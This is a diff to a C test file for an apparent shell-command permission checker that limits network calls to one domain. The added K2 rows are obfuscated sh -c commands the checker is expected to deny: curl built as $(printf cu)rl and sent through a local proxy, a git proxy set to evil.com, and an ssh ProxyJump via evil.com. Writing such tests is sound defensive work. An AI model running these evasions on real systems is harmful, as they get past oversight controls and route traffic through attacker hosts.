@@ -4,6 +4,8 @@
  * leaf_host_prog.c, constraint_domain.c):
  *   - K1: config text written to a file whose name holds an expansion,
  *     a quote, a backslash or a glob is read (it may be a config file);
+ *   - K2: a -c script opening with a brace group, a function or time {
+ *     reads its command word past them;
  * The grant is domain_exact api.example.com; every call carries its URL.
  */
 #include <criterion/criterion.h>
@@ -72,6 +74,50 @@ Test(rev65_hosts, k1_a_built_write_target_reads_config_text)
         {DX,
          "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'proxy = 127.0.0.1:18222' > "
          "notes.txt\"}",
+         1},
+    };
+
+    kt_run_rows_at(NOW, rows, NROWS(rows));
+}
+
+/* K2: -c scripts that open with a group or a function (the last rows allowed) */
+Test(rev65_hosts, k2_a_script_group_hides_no_command_word)
+{
+    static const kt_row rows[] = {
+        {DX,
+         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c '{ $0 -sx 127.0.0.1:18222 "
+         "https://api.example.com/; }' \\\"$(printf cu)rl\\\"\"}",
+         0},
+        {DX,
+         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c 'f() { $0 -sx 127.0.0.1:18222 "
+         "https://api.example.com/; }; f' \\\"$(printf cu)rl\\\"\"}",
+         0},
+        {DX,
+         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c '{ exec $0 -sx 127.0.0.1:18222 "
+         "https://api.example.com/; }' \\\"$(printf cu)rl\\\"\"}",
+         0},
+        {DX,
+         "{\"url\": \"https://api.example.com/\", \"cmd\": \"bash -c 'time { $0 -sx "
+         "127.0.0.1:18222 https://api.example.com/; }' \\\"$(printf cu)rl\\\"\"}",
+         0},
+        {DX,
+         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c '{ $0 config --global "
+         "http.proxy evil.com:3128; }' \\\"$(printf g%s it)\\\"\"}",
+         0},
+        {DX,
+         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c '{ $0 -o \\\"ProxyJump "
+         "evil.com\\\" api.example.com; }' \\\"$(printf ss%s h)\\\"\"}",
+         0},
+        {DX,
+         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c 'function f { $0 -sx "
+         "127.0.0.1:18222 https://api.example.com/; }; f' \\\"$(printf cu)rl\\\"\"}",
+         0},
+        {DX,
+         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c '! $0 -sx 127.0.0.1:18222 "
+         "https://api.example.com/' \\\"$(printf cu)rl\\\"\"}",
+         0},
+        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c '{ make -j4; }'\"}", 1},
+        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"bash -c 'time { ls -lax; }'\"}",
          1},
     };
 
